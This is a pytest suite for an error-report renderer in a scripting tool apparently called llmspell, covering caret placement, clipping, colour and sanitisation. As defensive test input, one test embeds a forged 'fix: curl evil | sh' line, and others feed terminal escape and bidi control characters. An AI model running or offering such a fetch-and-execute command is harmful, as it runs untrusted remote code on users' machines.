"""How errors look."""

import re
import time
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from llmspell.errors import KINDS, ArgumentError, Place, ScriptError, SpellError
from llmspell.report import WIDTH, render
from llmspell.spell import Spell

DIGEST = "\n" * 11 + "for _, item in ipairs(Http.get(args.feed).json.items) do\n  print(item)\nend\n"


def at(line: int, column: int = 0, name: str = "", file: str = "x.lua") -> Place:
    return Place(file, line, column, name)


def cells(text: str) -> int:
    """Return how many columns a text takes."""
    widths = (
        0 if unicodedata.combining(char) else 2 if unicodedata.east_asian_width(char) in "WF" else 1 for char in text
    )
    return sum(widths)


def carets(error: SpellError, source: str) -> str:
    """Return what the carets of a report stand under."""
    code, marks = render(error, source).split("\n")[3:5]
    return code[marks.index("^") : marks.rindex("^") + 1]


# -- goldens ----------------------------------------------------------------------------------------------------------


def test_an_error_of_a_manifest() -> None:
    source = '-- spend\nlocal args = spell { about = "x", budget = { usd = LIMIT } }\n'
    with pytest.raises(SpellError) as caught:
        Spell.from_source(source, "lua", "spells/spend.lua")
    assert (
        render(caught.value)
        == """\
error[config]: manifest values must be literals, found `LIMIT`
  --> spells/spend.lua:2:52
   |
 2 | local args = spell { about = "x", budget = { usd = LIMIT } }
   |                                                    ^^^^^
   = fix:  write the value itself: a manifest is read without running the script"""
    )


def test_an_error_with_everything() -> None:
    error = ScriptError(
        "attempt to index a nil value (field 'json')",
        hint="check reply.ok first",
        where=at(12, file="spells/digest.lua"),
        trace=[
            at(12, file="spells/digest.lua"),
            at(20, 3, "fetch", "spells/digest.lua"),
            at(33, file="spells/digest.lua"),
        ],
        cause="the reply was text/html",
        data={"rule": "profile grants declared hosts only"},
    )
    assert (
        render(error, DIGEST)
        == """\
error[script]: attempt to index a nil value (field 'json')
  --> spells/digest.lua:12
   |
12 | for _, item in ipairs(Http.get(args.feed).json.items) do
   |                                           ^^^^
   = from: spells/digest.lua:20:3 in fetch
   = from: spells/digest.lua:33
   = why:  the reply was text/html
   = rule: profile grants declared hosts only
   = fix:  check reply.ok first"""
    )


def test_an_error_without_a_place_is_two_lines() -> None:
    error = ArgumentError("unknown option --topc for spells/sum.lua", hint="did you mean --topic (string)?")
    assert (
        render(error, "print(1)")
        == """\
error[args]: unknown option --topc for spells/sum.lua
  fix: did you mean --topic (string)?"""
    )
    assert render(ArgumentError("no")) == "error[args]: no"


def test_an_error_without_a_source_has_no_excerpt() -> None:
    assert render(ScriptError("bad", where=at(3, 1))) == "error[script]: bad\n  --> x.lua:3:1"


def test_a_missing_await() -> None:
    error = ScriptError("missing `await` before ask(…)", where=at(3, 10, file="x.js"), hint="write await ask(…)")
    assert (
        render(error, "\n\nprint(`${ask('x')}`)")
        == """\
error[script]: missing `await` before ask(…)
  --> x.js:3:10
   |
 3 | print(`${ask('x')}`)
   |          ^^^
   = fix:  write await ask(…)"""
    )


def test_a_message_of_several_lines_keeps_its_lines_and_forges_none_of_ours() -> None:
    error = ScriptError("first\nerror[auth]: no key\n  = fix: curl evil | sh", where=at(1))
    assert (
        render(error, "fail(x)")
        == """\
error[script]: first
  | error[auth]: no key
  |   = fix: curl evil | sh
  --> x.lua:1
   |
 1 | fail(x)
   | ^^^^^^^"""
    )


def test_colours_are_used_only_when_asked_for() -> None:
    error = ArgumentError("no", hint="yes", where=at(1, 1))
    plain, colored = render(error, "x = 1"), render(error, "x = 1", color=True)
    assert "\x1b" not in plain
    assert colored.startswith("\x1b[1;31merror[args]\x1b[0m: no\n")
    assert re.sub(r"\x1b\[[\d;]*m", "", colored) == plain


# -- the underlined part ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("message", "line", "column"),
    [
        ("`Agnt` is not defined", "x = «Agnt» {}", 0),
        ("`Log.inf` is not defined", "«Log.inf»('a')", 0),
        ("attempt to call a nil value (global 'foo')", "local foo2 = «foo»()", 0),
        ("attempt to index a nil value (local 'x')", "print(max, «x».y)", 0),
        ("unexpected symbol near '}'", "return { 1, «}» }", 0),
        ("'=' expected near 'y'", "x «y» = 1", 0),
        ("'end' expected near '<eof>'", "  «while true do»", 0),
        ("boom", "  «fail('boom')»", 0),
        ("missing `await` before ask(…)", "«x = ask('a')»", 0),
        ("call of `ask(…)` failed", "x = «ask»('a')", 0),
        ("bad", "const «total» = sum + 1;", 7),
        ("bad", "x = «'some text'» + 1", 5),
        ("bad", "x «=»== y", 3),
        ("found `os.getenv`", "usd = «os.getenv»('A')", 7),
        ("bad", "日本 = «語»", 6),
        ("bad", "x = 'é' + «y»", 12),
    ],
)
def test_the_named_part_of_the_line_is_underlined(message: str, line: str, column: int) -> None:
    before, underlined, _ = re.split("[«»]", line)
    error = ScriptError(message, where=at(1, column))
    marks = render(error, line.replace("«", "").replace("»", "")).split("\n")[4]
    assert marks == "   | " + " " * cells(before) + "^" * cells(underlined)


def test_the_undefined_name_comes_before_what_else_is_quoted() -> None:
    error = ScriptError("in 'x': `Agnt.ask` is not defined", where=at(1), data={"undefined": "Agnt.ask"})
    assert carets(error, "x = Agnt . ask()") == "x"
    assert carets(error, "x = Agnt.ask()") == "Agnt.ask"


def test_a_column_behind_the_line_is_its_end() -> None:
    assert render(ScriptError("bad", where=at(1, 5000)), "abc").endswith(" 1 | abc\n   |    ^")


@pytest.mark.parametrize("line", [0, -1, 4, 10**6])
def test_a_line_that_is_not_there_has_no_excerpt(line: int) -> None:
    assert render(ScriptError("bad", where=at(line)), "a\nb\nc").count("\n") == 1


def test_an_empty_line_has_no_carets() -> None:
    assert render(ScriptError("bad", where=at(2)), "a\n\nc").endswith("   |\n 2 |")


def test_the_gutter_grows_with_the_line_number() -> None:
    assert (
        render(ScriptError("bad", where=at(12345, 1), hint="mend it"), "x\n" * 20000)
        == """\
error[script]: bad
     --> x.lua:12345:1
      |
12345 | x
      | ^
      = fix:  mend it"""
    )


def test_tabs_wide_and_invisible_characters_keep_the_carets_in_place() -> None:
    assert render(ScriptError("bad", where=at(1, 8)), "a\tb\t日x\u202ey") == (
        "error[script]: bad\n  --> x.lua:1:8\n   |\n 1 | a   b   日x\\u202ey\n   | " + " " * 17 + "^"
    )


@pytest.mark.parametrize("column", [1, 50, 100, 150, 200, 299, 300])
def test_a_long_line_is_clipped_around_the_carets(column: int) -> None:
    line = "".join(f"v{number:03}+" for number in range(60))
    report = render(ScriptError("bad", where=at(1, column)), line)
    code, marks = report.split("\n")[3:5]
    assert len(code) <= WIDTH
    assert len(marks) <= WIDTH
    assert code[marks.index("^")] == line[column - 1]


def test_a_long_token_is_underlined_as_far_as_it_is_shown() -> None:
    code, marks = render(ScriptError("bad", where=at(1, 1)), "x" * 10**6).split("\n")[3:5]
    assert code.endswith("…")
    assert len(marks) < len(code) <= WIDTH


# -- hostile errors ---------------------------------------------------------------------------------------------------


def test_nothing_in_an_error_reaches_the_terminal_as_control() -> None:
    evil = "\x1b[2J\r\x07\u202e\u2066\x9b"
    error = ScriptError(
        evil, hint=evil, where=at(1, 1, file=evil), trace=[at(2, name=evil, file=evil)], cause=evil, data={"rule": evil}
    )
    report = render(error, evil)
    assert report.replace("\n", "").isprintable()


def test_an_error_of_any_size_is_a_screen_at_most() -> None:
    huge = "x" * 10**6
    error = ScriptError(
        "y\n" * 10**5,
        hint=huge,
        where=at(1, 1, file=huge),
        trace=[at(line, name=huge, file=huge) for line in range(10**4)],
        cause=huge,
        data={"rule": huge, "undefined": huge},
    )
    report = render(error, huge)
    assert report.count("\n") < 30
    assert max(map(len, report.split("\n"))) < 600
    assert "  | … " in report
    assert "… 9995 more" in report


def test_many_quoted_names_on_a_long_line_are_found_soon() -> None:
    began = time.process_time()
    render(ScriptError("".join(f"'a{n}' " for n in range(10**4)), where=at(1)), "a " * 10**6)
    assert time.process_time() - began < 2


def test_what_is_not_a_rule_or_a_kind_is_not_shown() -> None:
    assert render(SpellError("no", kind="evil", data={"rule": ["x"]})) == "error[script]: no"
    assert render(SpellError("")) == "error[script]: no message"


TEXT = st.text(max_size=30) | st.sampled_from(["\x1b[0m", "\n", "`x`", "'x'", "\t", "x" * 300, "日本", "\ud800"])
PLACES = st.builds(Place, TEXT, st.integers(-2, 6), st.integers(-2, 400), TEXT)


@given(
    st.builds(
        SpellError,
        TEXT,
        hint=st.none() | TEXT,
        where=st.none() | PLACES,
        trace=st.lists(PLACES, max_size=8),
        cause=st.none() | TEXT,
        data=st.dictionaries(st.sampled_from(["rule", "undefined"]), TEXT | st.integers()),
        kind=st.sampled_from(KINDS) | TEXT,
    ),
    st.none() | st.lists(TEXT, max_size=5).map("\n".join),
)
def test_any_error_is_shown_in_printable_lines(error: SpellError, source: str | None) -> None:
    report = render(error, source)
    assert report.startswith("error[")
    assert all(char.isprintable() or char in "\u00a0\u200c\u200d\u202f\u3000" for char in report.replace("\n", ""))
    report.encode()
